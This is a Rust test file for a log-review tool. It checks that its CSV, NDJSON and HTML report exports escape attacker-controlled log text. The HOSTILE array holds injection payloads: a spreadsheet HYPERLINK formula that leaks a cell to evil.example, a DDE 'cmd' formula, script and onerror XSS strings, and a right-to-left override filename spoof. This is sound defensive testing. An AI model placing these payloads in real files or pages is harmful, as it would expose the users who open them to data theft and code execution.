//! Exports and the case report: CSV read back by a strict RFC 4180 reader gives the log text
//! exactly (after undoing the formula guard), NDJSON parses back with exactly the filtered rows
//! and their sources, and the HTML report never lets log text become markup.

use flate2::{write::GzEncoder, Compression};
use review_core::ingest::{Ingest, Options};
use review_core::model::{EventId, Model, NO_TIME};
use review_core::time::parse_rfc3339;
use review_core::views::{
    case_report, evidence_sha256, export, html_text, is_hidden, needs_neutralizing, push_csv_cell, restore_csv_cell,
    rfc3339_utc, Export, ExportFormat, ExportRequest, ReportFinding, ReportMeta, Table, EVENT_COLUMNS, SESSION_COLUMNS,
};
use serde_json::Value;
use std::io::Write;

/// Values an attacker controls (user names, error texts, paths…), each hostile to a spreadsheet
/// or to HTML.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "a,b \"quoted\" and\r\na new line",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "Tom & Jerry's <b>bold</b>",
    "ctl\u{0}\u{1}\u{7}\u{1b}[31m\u{7f}\u{85}end",
    "invoice\u{202E}fdp.exe",
    "zero\u{200B}width\u{2066}isolate\u{2069}\u{FEFF}",
    "https://evil.example/x.png",
    "ünïcødé 😀 日本",
];

fn line(fields: &[(&str, &str)]) -> String {
    let mut obj = serde_json::Map::new();
    for (k, v) in fields {
        let value = match *v {
            "false" => Value::Bool(false),
            v => Value::String(v.to_owned()),
        };
        obj.insert((*k).to_owned(), value);
    }
    serde_json::to_string(&obj).expect("serializable")
}

/// One failed login per hostile value (as user, login, node, message and address), two clean
/// events, and a session with a hostile participant.
fn log() -> String {
    let mut out = String::new();
    for (i, h) in HOSTILE.iter().enumerate() {
        let time = format!("2024-03-04T10:{i:02}:00.25Z");
        let port = format!("10.1.1.{i}:22");
        out += &line(&[
            ("event", "user.login"),
            ("code", "T1000W"),
            ("success", "false"),
            ("user", h),
            ("login", h),
            ("server_hostname", h),
            ("error", h),
            ("cluster_name", "main"),
            ("addr.remote", if i % 2 == 0 { &port } else { h }),
            ("time", &time),
        ]);
        out.push('\n');
    }
    out += r#"{"event":"user.login","code":"T1000I","success":true,"user":"alice","addr.remote":"192.0.2.1:40000","time":"2024-03-04T11:00:00Z"}"#;
    out.push('\n');
    out += &line(&[
        ("event", "session.start"),
        ("sid", "sess-1"),
        ("user", "alice"),
        ("login", "root"),
        ("server_hostname", "web-1"),
        ("addr.remote", "192.0.2.1:40001"),
        ("time", "2024-03-04T11:01:00Z"),
    ]);
    out.push('\n');
    out +=
        &line(&[("event", "session.join"), ("sid", "sess-1"), ("user", HOSTILE[8]), ("time", "2024-03-04T11:02:00Z")]);
    out.push('\n');
    out += r#"{"event":"session.end","sid":"sess-1","user":"alice","time":"2024-03-04T12:31:00.5Z"}"#;
    out.push('\n');
    out += "not json <script>alert(1)</script>\n";
    out
}

const HASH_A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const HASH_GZ: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::fast());
    e.write_all(data).expect("in memory");
    e.finish().expect("in memory")
}

/// A `.tar.gz` holding one log file.
fn tar_gz(name: &str, data: &[u8]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, name, data).expect("in memory");
    gz(&b.into_inner().expect("in memory"))
}

/// The hostile log as a plain file (hashed), plus one clean event in an archive whose hash is
/// known for the archive only (its entry has none), plus a file not hashed yet.
fn model() -> Model {
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes("log/2024-03-04.00:00:00.log", log().as_bytes());
    let in_gz = r#"{"event":"user.login","code":"T1000W","success":false,"user":"gzuser","addr.remote":"192.0.2.9:1","time":"2024-03-05T00:00:00Z"}"#;
    ing.add_bytes("backup.tar.gz", &tar_gz("log/2024-03-05.00:00:00.log", format!("{in_gz}\n").as_bytes()));
    let late = r#"{"event":"user.login","code":"T1000W","success":false,"user":"late","time":"2024-03-06T00:00:00Z"}"#;
    ing.add_bytes("log/2024-03-06.00:00:00.log", format!("{late}\n").as_bytes());
    let mut m = ing.finish();
    for f in &mut m.files {
        if f.path == "log/2024-03-04.00:00:00.log" {
            f.sha256 = Some(HASH_A.into());
        } else if f.path == "backup.tar.gz" {
            f.sha256 = Some(HASH_GZ.into());
        }
    }
    m
}

/// A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records), written here so the
/// test does not trust the writer's idea of the format.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted_field = false;
    while let Some(c) = chars.next() {
        match c {
            '"' if field.is_empty() && !quoted_field => {
                quoted_field = true;
                loop {
                    match chars.next().expect("a quoted field ends") {
                        '"' if chars.peek() == Some(&'"') => {
                            chars.next();
                            field.push('"');
                        }
                        '"' => break,
                        c => field.push(c),
                    }
                }
                assert!(matches!(chars.peek(), Some(',') | Some('\r') | None), "a quote ends the field");
            }
            '"' => panic!("a bare quote inside an unquoted field"),
            ',' => {
                record.push(std::mem::take(&mut field));
                quoted_field = false;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "records end with CRLF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                quoted_field = false;
            }
            '\n' => panic!("a bare LF outside quotes"),
            c => field.push(c),
        }
    }
    assert!(field.is_empty() && record.is_empty(), "the last record ends with CRLF");
    records
}

fn req(table: Table, query: &str, format: ExportFormat) -> ExportRequest {
    ExportRequest { table, query: query.into(), format }
}

#[test]
fn csv_cells_are_quoted_and_neutralized() {
    let cell = |v: &str| {
        let mut out = Vec::new();
        push_csv_cell(&mut out, v);
        String::from_utf8(out).expect("UTF-8 in, UTF-8 out")
    };
    assert_eq!(cell("plain"), "plain");
    assert_eq!(cell(""), "");
    assert_eq!(cell("a,b"), "\"a,b\"");
    assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(cell("two\nlines"), "\"two\nlines\"");
    assert_eq!(cell("=1+1"), "'=1+1");
    assert_eq!(cell("+1"), "'+1");
    assert_eq!(cell("-1"), "'-1");
    assert_eq!(cell("@x"), "'@x");
    assert_eq!(cell("\tx"), "'\tx");
    assert_eq!(cell("\r=1"), "\"'\r=1\"");
    assert_eq!(cell("'quoted"), "''quoted", "a leading quote is doubled so that removing one is exact");
    assert_eq!(cell("=a,\"b\""), "\"'=a,\"\"b\"\"\"");
    assert_eq!(cell("a=1"), "a=1", "only the first character matters");
    for h in HOSTILE {
        let first = h.chars().next().unwrap_or(' ');
        assert_eq!(needs_neutralizing(h), matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '\''), "{h:?}");
    }
    assert_eq!(restore_csv_cell("''quoted"), "'quoted");
    assert_eq!(restore_csv_cell("'=1"), "=1");
    assert_eq!(restore_csv_cell("plain"), "plain");
}

#[test]
fn a_query_with_an_error_exports_no_row() {
    let m = model();
    let (bytes, error) = export(&m, &req(Table::Auth, "usr:alice", ExportFormat::Csv), None);
    assert!(error.is_some(), "the error is said");
    let text = String::from_utf8(bytes).unwrap();
    assert_eq!(text.lines().count(), 1, "the header only, not every row: {text}");
}

#[test]
fn csv_has_exactly_the_filtered_rows_with_their_source() {
    let m = model();
    let (bytes, error) = export(&m, &req(Table::Auth, "outcome:failure", ExportFormat::Csv), None);
    assert!(error.is_none());
    let text = String::from_utf8(bytes).expect("UTF-8");
    let rows = read_csv(&text);
    assert_eq!(rows[0], EVENT_COLUMNS, "a header row");
    let rows = &rows[1..];
    // Every hostile login failed, and so did the gzip's and the late file's.
    assert_eq!(rows.len(), HOSTILE.len() + 2);
    let col = |name: &str| EVENT_COLUMNS.iter().position(|c| *c == name).expect("a column");
    for r in rows {
        assert_eq!(r.len(), EVENT_COLUMNS.len());
        assert_eq!(r[col("outcome")], "failure");
    }
    // Time order, RFC 3339 UTC.
    assert_eq!(rows[0][col("time")], "2024-03-04T10:00:00.250Z");
    let times: Vec<_> = rows.iter().map(|r| parse_rfc3339(&r[col("time")]).expect("RFC 3339")).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    // The log text comes back exactly, once the formula guard is undone.
    for (i, h) in HOSTILE.iter().enumerate() {
        let r = &rows[i];
        for name in ["user", "login", "node", "message"] {
            assert_eq!(restore_csv_cell(&r[col(name)]), *h, "{name} of row {i}");
            let first = r[col(name)].chars().next();
            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "no cell starts a formula: {r:?}");
        }
        assert_eq!(r[col("file")], "log/2024-03-04.00:00:00.log");
        assert_eq!(r[col("line")], (i + 1).to_string());
        assert_eq!(r[col("sha256")], HASH_A);
    }
    let gz_row = &rows[HOSTILE.len()];
    assert_eq!(gz_row[col("user")], "gzuser");
    assert_eq!(gz_row[col("file")], "backup.tar.gz/log/2024-03-05.00:00:00.log");
    assert_eq!(gz_row[col("sha256")], HASH_GZ, "an entry carries the hash of the file dropped");
    let late = &rows[HOSTILE.len() + 1];
    assert_eq!((late[col("user")].as_str(), late[col("sha256")].as_str()), ("late", ""), "not hashed yet");
    assert_eq!(late[col("addr")], "");
    assert_eq!(late[col("port")], "");
}

#[test]
fn ndjson_parses_back_with_exact_text_and_raw_lines() {
    let m = model();
    let raw = |id: EventId| m.kept_raw(id).map(<[u8]>::to_vec);
    let (bytes, _) = export(&m, &req(Table::Events, "outcome:failure", ExportFormat::Ndjson), Some(&raw));
    let text = String::from_utf8(bytes).expect("UTF-8");
    assert!(text.ends_with('\n'));
    let rows: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).expect("one JSON object per line")).collect();
    assert_eq!(rows.len(), HOSTILE.len() + 2);
    let source = log();
    let source_lines: Vec<&str> = source.lines().collect();
    for (i, h) in HOSTILE.iter().enumerate() {
        let r = &rows[i];
        for name in ["user", "login", "node", "message"] {
            assert_eq!(r[name], *h, "{name} is exact in NDJSON");
        }
        assert_eq!(r["file"], "log/2024-03-04.00:00:00.log");
        assert_eq!(r["line"], i as u64 + 1);
        assert_eq!(r["sha256"], HASH_A);
        assert_eq!(r["raw"], source_lines[i], "the original line, byte for byte");
        let keys: Vec<&str> = r.as_object().expect("an object").keys().map(String::as_str).collect();
        let mut want: Vec<&str> = EVENT_COLUMNS.iter().copied().chain(["raw"]).collect();
        want.sort_unstable();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort_unstable();
        assert_eq!(keys_sorted, want);
    }
    assert_eq!(rows[HOSTILE.len() + 1]["sha256"], Value::Null);
    // Same rows, same order, as the CSV.
    let (csv, _) = export(&m, &req(Table::Events, "outcome:failure", ExportFormat::Csv), None);
    assert_eq!(read_csv(std::str::from_utf8(&csv).expect("UTF-8")).len() - 1, rows.len());
}

#[test]
fn ndjson_raw_that_is_not_utf8_or_missing() {
    let m = model();
    let first = m.index().ids[0];
    let raw = |id: EventId| match id {
        _ if id == first => Some(vec![b'{', 0xff, 0xfe, b'}']),
        _ => None,
    };
    let (bytes, _) = export(&m, &req(Table::Events, "", ExportFormat::Ndjson), Some(&raw));
    let rows: Vec<Value> =
        String::from_utf8(bytes).expect("UTF-8").lines().map(|l| serde_json::from_str(l).expect("JSON")).collect();
    assert_eq!(rows.len(), m.events.len());
    assert_eq!(rows[0]["raw_base64"], "e//+fQ==");
    assert!(rows[0].get("raw").is_none());
    assert_eq!(rows[1]["raw"], Value::Null, "a line that cannot be had is said so");
    let (bytes, _) = export(&m, &req(Table::Events, "", ExportFormat::Ndjson), None);
    let row: Value =
        serde_json::from_str(std::str::from_utf8(&bytes).expect("UTF-8").lines().next().expect("a row")).expect("JSON");
    assert!(row.get("raw").is_none(), "no accessor, no raw field");
}

#[test]
fn chunked_export_is_the_same_bytes() {
    let m = model();
    for (table, format) in [
        (Table::Events, ExportFormat::Csv),
        (Table::Auth, ExportFormat::Ndjson),
        (Table::Sessions, ExportFormat::Csv),
        (Table::Sessions, ExportFormat::Ndjson),
    ] {
        let r = req(table, "", format);
        let (whole, _) = export(&m, &r, None);
        let mut e = Export::new(&m, &r);
        let mut chunks = Vec::new();
        let mut out = Vec::new();
        while !e.write_chunk(&m, None, &mut out, 64) {
            chunks.push(std::mem::take(&mut out));
        }
        chunks.push(out);
        if table != Table::Sessions {
            assert!(chunks.len() > 3, "{table:?} was written in pieces");
        }
        assert_eq!(e.rows_written(), e.rows());
        assert_eq!(chunks.concat(), whole, "{table:?} {format:?}");
    }
}

#[test]
fn stale_index_exports_the_same() {
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes("b.log", b"{\"event\":\"exec\",\"user\":\"b\",\"time\":\"2024-01-02T00:00:00Z\"}\n");
    ing.add_bytes("a.log", b"{\"event\":\"exec\",\"user\":\"a\",\"time\":\"2024-01-01T00:00:00Z\"}\n");
    let mut m = std::mem::take(&mut ing.model);
    assert!(m.index_is_stale());
    let r = req(Table::Events, "", ExportFormat::Csv);
    let (stale, _) = export(&m, &r, None);
    m.ensure_sorted();
    let (fresh, _) = export(&m, &r, None);
    assert_eq!(stale, fresh);
    let rows = read_csv(std::str::from_utf8(&fresh).expect("UTF-8"));
    assert_eq!((rows[1][4].as_str(), rows[2][4].as_str()), ("a", "b"), "time order either way");
}

#[test]
fn sessions_export() {
    let m = model();
    let (bytes, _) = export(&m, &req(Table::Sessions, "", ExportFormat::Csv), None);
    let rows = read_csv(std::str::from_utf8(&bytes).expect("UTF-8"));
    assert_eq!(rows[0], SESSION_COLUMNS);
    assert_eq!(rows.len(), 2);
    let col = |name: &str| SESSION_COLUMNS.iter().position(|c| *c == name).expect("a column");
    let r = &rows[1];
    assert_eq!(r[col("sid")], "sess-1");
    assert_eq!(r[col("time")], "2024-03-04T11:01:00Z");
    assert_eq!(r[col("end")], "2024-03-04T12:31:00.500Z");
    assert_eq!(r[col("duration_seconds")], "5400.5");
    assert_eq!(r[col("participants")], format!("alice, {}", HOSTILE[8]));
    assert_eq!(r[col("joins")], "1");
    assert_eq!(r[col("file")], "log/2024-03-04.00:00:00.log");
    assert_eq!(r[col("line")], (HOSTILE.len() + 2).to_string(), "the session's earliest event");
    assert_eq!(r[col("sha256")], HASH_A);
    let (bytes, _) = export(&m, &req(Table::Sessions, "", ExportFormat::Ndjson), None);
    let v: Value = serde_json::from_slice(bytes.strip_suffix(b"\n").expect("a line")).expect("JSON");
    assert_eq!(v["duration_seconds"].as_f64(), Some(5400.5));
    assert_eq!(v["participants"][1], HOSTILE[8]);
    assert_eq!(v["interactive"], Value::Null);
}

#[test]
fn export_times_are_rfc3339_utc() {
    use chrono::{DateTime, SecondsFormat};
    for t in
        [0, 1, 999, 1_000_000, 1_500_000_000, -1, -1_000_000_001, 1_709_546_400_123_456_789, i64::MAX - 1, i64::MIN]
    {
        let want = DateTime::from_timestamp_nanos(t).to_rfc3339_opts(SecondsFormat::AutoSi, true);
        assert_eq!(rfc3339_utc(t), want, "{t}");
    }
    assert_ne!(NO_TIME, 0);
}

#[test]
fn an_entry_is_vouched_for_by_its_archive() {
    let m = model();
    let entry = m.files.iter().position(|f| f.path.ends_with(".tar.gz/log/2024-03-05.00:00:00.log"));
    let entry = entry.expect("the archive's entry is a file of its own") as u32;
    assert!(m.files[entry as usize].sha256.is_none());
    assert_eq!(evidence_sha256(&m, entry), Some(HASH_GZ));
    let late = m.files.iter().position(|f| f.path.ends_with("03-06.00:00:00.log")).expect("loaded") as u32;
    assert_eq!(evidence_sha256(&m, late), None);
}

#[test]
fn html_escaping() {
    assert_eq!(html_text("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;");
    assert_eq!(html_text("\"><img onerror>"), "&quot;&gt;&lt;img onerror&gt;");
    assert_eq!(html_text("a & b 'c'"), "a &amp; b &#39;c&#39;");
    assert_eq!(html_text("x\u{202E}y"), "x<span class=\"cc\">U+202E</span>y");
    assert_eq!(html_text("\u{0}\n"), "<span class=\"cc\">U+0000</span><span class=\"cc\">U+000A</span>");
    assert_eq!(html_text("ünï 😀"), "ünï 😀");
    assert_eq!(html_text("&amp;"), "&amp;amp;", "escaping is not undone");
    for h in HOSTILE {
        let e = html_text(h);
        assert!(!e.contains(['<', '>']) || e.contains("<span class=\"cc\">"), "{e}");
        let without_marks = e.replace("<span class=\"cc\">", "").replace("</span>", "");
        assert!(!without_marks.contains(['<', '>', '"', '\'']), "{h:?} → {e}");
        assert!(!e.chars().any(is_hidden), "nothing invisible or reordering is left in {e:?}");
    }
}

fn report(m: &Model) -> String {
    let failures: Vec<EventId> = m
        .index()
        .ids
        .iter()
        .copied()
        .filter(|&id| m.events[id as usize].outcome == review_core::audit::Outcome::Failure)
        .collect();
    let findings = vec![ReportFinding {
        title: HOSTILE[8].into(),
        severity: "high\"><script>x</script>".into(),
        explanation: HOSTILE.join(" | "),
        time_start: m.time_span().map(|s| s.0),
        time_end: m.time_span().map(|s| s.1),
        users: HOSTILE.iter().map(|s| s.to_string()).collect(),
        nodes: vec![HOSTILE[9].into()],
        addrs: vec![HOSTILE[14].into()],
        events: failures.into_iter().chain([u32::MAX]).collect(),
    }];
    let meta = ReportMeta {
        title: format!("Case {}", HOSTILE[9]),
        tool: format!("teleport-review 0.1.0 {}", HOSTILE[8]),
        made_at: parse_rfc3339("2024-03-07T09:00:00Z").expect("valid"),
        query: format!("user:\"{}\"", HOSTILE[8]),
    };
    case_report(m, &meta, &findings, &[0, 99])
}

#[test]
fn case_report_lets_no_log_text_become_markup() {
    let m = model();
    let html = report(&m);
    let lower = html.to_lowercase();
    assert!(lower.starts_with("<!doctype html>"));
    assert!(!lower.contains("<script"), "no script, from log text or otherwise");
    for tag in ["<img", "<iframe", "<object", "<embed", "<link", "<base", "<form", "<svg", "<math", "<a "] {
        assert!(!lower.contains(tag), "no {tag}");
    }
    for attr in ["src=", "href=", "onerror", "url(", "@import", "srcdoc", "javascript:"] {
        let in_markup = html.match_indices(attr).any(|(i, _)| inside_tag(&html, i));
        assert!(!in_markup, "no {attr} in markup");
    }
    // No resource URL anywhere but in escaped text (the hostile value carries one).
    for scheme in ["http://", "https://", "//evil"] {
        for (i, _) in html.match_indices(scheme) {
            assert!(!inside_tag(&html, i) && !inside_style(&html, i), "{scheme} at {i} is only text");
        }
    }
    for h in HOSTILE {
        let escaped = html_text(h);
        assert!(html.contains(&escaped), "{h:?} is shown, escaped");
        if h.contains(['<', '>', '&', '"']) || h.chars().any(is_hidden) {
            assert!(!html.contains(h), "{h:?} never appears raw");
        }
    }
    for c in html.chars() {
        assert!(c == '\n' || !is_hidden(c), "no hidden character {:?} in the document", c);
    }
    // What a reader needs: provenance, the query, the findings, the session's events.
    assert!(html.contains(HASH_A) && html.contains(HASH_GZ));
    assert!(html.contains("log/2024-03-04.00:00:00.log"));
    assert!(html.contains("not computed"), "the late file has no hash yet");
    assert!(html.contains("2024-03-07 09:00:00.000"));
    assert!(html.contains(&html_text(&format!("user:\"{}\"", HOSTILE[8]))));
    assert!(html.contains("sev-high"), "the class comes from a fixed set");
    assert!(html.contains("Session <span class=\"v\">sess-1</span>"));
    assert!(html.contains(&format!("log/2024-03-04.00:00:00.log:{}", HOSTILE.len() + 2)), "file:line of an event");
    assert!(html.contains("Problems (1)"), "the bad line is listed");
}

#[test]
fn a_clean_report_names_no_url_at_all() {
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes(
        "a.log",
        b"{\"event\":\"session.start\",\"sid\":\"s\",\"user\":\"a\",\"time\":\"2024-01-01T00:00:00Z\"}\n",
    );
    let m = ing.finish();
    let meta = ReportMeta { tool: "teleport-review test".into(), ..ReportMeta::default() };
    let html = case_report(&m, &meta, &[], &[0]);
    assert!(!html.contains("http://") && !html.contains("https://") && !html.contains("//"), "{html}");
    assert!(html.contains("<style>") && !html.contains("<script"));
    assert!(html.contains("Content-Security-Policy"));
}

/// Whether byte `i` of `html` is inside a tag (between `<` and `>`).
fn inside_tag(html: &str, i: usize) -> bool {
    let before = &html[..i];
    before.rfind('<') > before.rfind('>')
}

fn inside_style(html: &str, i: usize) -> bool {
    let before = &html[..i];
    before.rfind("<style>") > before.rfind("</style>")
}

#[test]
fn findings_export_names_every_event_with_its_file_line_and_hash() {
    use review_core::detect::{Finding, Severity};
    use review_core::views::findings_ndjson;
    let m = model();
    let failed: Vec<EventId> = (0..m.events.len() as EventId)
        .filter(|&id| m.events[id as usize].outcome == review_core::audit::Outcome::Failure)
        .collect();
    let finding = Finding {
        rule: "brute_force".into(),
        severity: Severity::High,
        title: HOSTILE[0].into(),
        explanation: HOSTILE[7].into(),
        time_start: Some(m.events[failed[0] as usize].time),
        time_end: None,
        users: vec![HOSTILE[11].into()],
        nodes: Vec::new(),
        addrs: Vec::new(),
        events: failed.iter().copied().chain([u32::MAX]).collect(),
    };
    let text = String::from_utf8(findings_ndjson(&m, &[finding.clone(), finding])).expect("UTF-8");
    let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).expect("one JSON object per line")).collect();
    assert_eq!(lines.len(), 2);
    let f = &lines[0];
    // Log text comes back exactly, however hostile.
    assert_eq!(f["title"], HOSTILE[0]);
    assert_eq!(f["explanation"], HOSTILE[7]);
    assert_eq!(f["users"][0], HOSTILE[11]);
    assert_eq!(f["severity"], "high");
    assert_eq!(f["time_start"], rfc3339_utc(m.events[failed[0] as usize].time));
    // Every event of the model, none invented for the id that is not one.
    let events = f["events"].as_array().expect("events");
    assert_eq!(events.len(), failed.len());
    for (e, &id) in events.iter().zip(&failed) {
        let ev = &m.events[id as usize];
        assert_eq!(e["line"], ev.line);
        assert_eq!(e["file"], m.files[ev.file as usize].path.as_str());
        assert_eq!(e["sha256"].as_str(), evidence_sha256(&m, ev.file));
    }
    assert!(events.iter().any(|e| e["sha256"] == HASH_A) && events.iter().any(|e| e["sha256"] == HASH_GZ));
}

#[test]
fn a_report_details_the_first_findings_and_counts_the_rest_by_severity() {
    use review_core::views::MAX_REPORT_FINDINGS;
    let m = model();
    let finding = |i: usize, severity: &str| ReportFinding {
        title: format!("finding number {i}."),
        severity: severity.into(),
        explanation: String::new(),
        time_start: None,
        time_end: None,
        users: Vec::new(),
        nodes: Vec::new(),
        addrs: Vec::new(),
        events: vec![0],
    };
    let mut findings: Vec<ReportFinding> = (0..MAX_REPORT_FINDINGS).map(|i| finding(i, "high")).collect();
    findings.extend([finding(MAX_REPORT_FINDINGS, "medium"), finding(MAX_REPORT_FINDINGS + 1, "low")]);
    findings.push(finding(MAX_REPORT_FINDINGS + 2, "low"));
    let html = case_report(&m, &ReportMeta::default(), &findings, &[]);
    assert_eq!(html.matches("<article class=\"finding").count(), MAX_REPORT_FINDINGS);
    assert!(html.contains(&format!("finding number {}.", MAX_REPORT_FINDINGS - 1)));
    assert!(!html.contains(&format!("finding number {}.", MAX_REPORT_FINDINGS)));
    assert!(html.contains("… and 3 more findings (1 medium, 2 low)"), "the rest are counted");
    assert!(html.contains(&format!("Findings ({})", MAX_REPORT_FINDINGS + 3)), "the heading counts them all");
    // Below the cap, nothing is left out and nothing said about it.
    let few = case_report(&m, &ReportMeta::default(), &findings[..3], &[]);
    assert_eq!(few.matches("<article class=\"finding").count(), 3);
    assert!(!few.contains("more findings"));
}
